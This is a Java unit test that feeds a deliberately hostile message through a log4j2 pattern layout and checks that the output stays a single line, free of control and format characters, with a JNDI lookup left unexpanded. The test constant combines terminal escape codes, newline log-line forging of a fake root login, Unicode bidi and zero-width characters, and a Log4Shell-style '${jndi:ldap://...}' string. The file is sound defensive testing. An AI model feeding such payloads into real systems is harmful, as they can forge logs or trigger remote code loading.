package voc.jobs;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.util.Objects;
import java.util.Properties;
import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.core.impl.Log4jLogEvent;
import org.apache.logging.log4j.core.layout.PatternLayout;
import org.apache.logging.log4j.message.SimpleMessage;
import org.junit.jupiter.api.Test;

class LogTest {
  private static final String HOSTILE =
      "x\u001B[2J\u009B31m\r\n12:00:00 ERROR Login: root\u0007\u2028\u202E\u200B${jndi:ldap://h/a}";

  private static String logged(Throwable thrown) throws IOException {
    Properties settings = new Properties();
    try (InputStream in = LogTest.class.getResourceAsStream("/log4j2.properties")) {
      settings.load(Objects.requireNonNull(in));
    }
    String layout = "appender.console.layout.";
    PatternLayout pattern =
        PatternLayout.newBuilder()
            .withPattern(settings.getProperty(layout + "pattern"))
            .withAlwaysWriteExceptions(
                Boolean.parseBoolean(settings.getProperty(layout + "alwaysWriteExceptions")))
            .build();
    return pattern.toSerializable(
        Log4jLogEvent.newBuilder()
            .setLoggerName("org.apache.spark.Executor")
            .setLevel(Level.ERROR)
            .setMessage(new SimpleMessage("task failed: " + HOSTILE))
            .setThrown(thrown)
            .build());
  }

  @Test
  void aMessageIsOneLineThatSteersNothing() throws IOException {
    String line = logged(new IOException(HOSTILE, new IllegalStateException(HOSTILE)));

    assertThat(line.strip().lines()).hasSize(1);
    assertThat(line.stripTrailing()).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\u2028\\u2029]");
    assertThat(line)
        .contains("ERROR Executor: task failed: x [2J 31m 12:00:00 ERROR Login: root")
        .contains("java.io.IOException: x [2J", "at voc.jobs.LogTest", "Caused by:")
        .contains("${jndi:ldap://h/a}");
  }
}
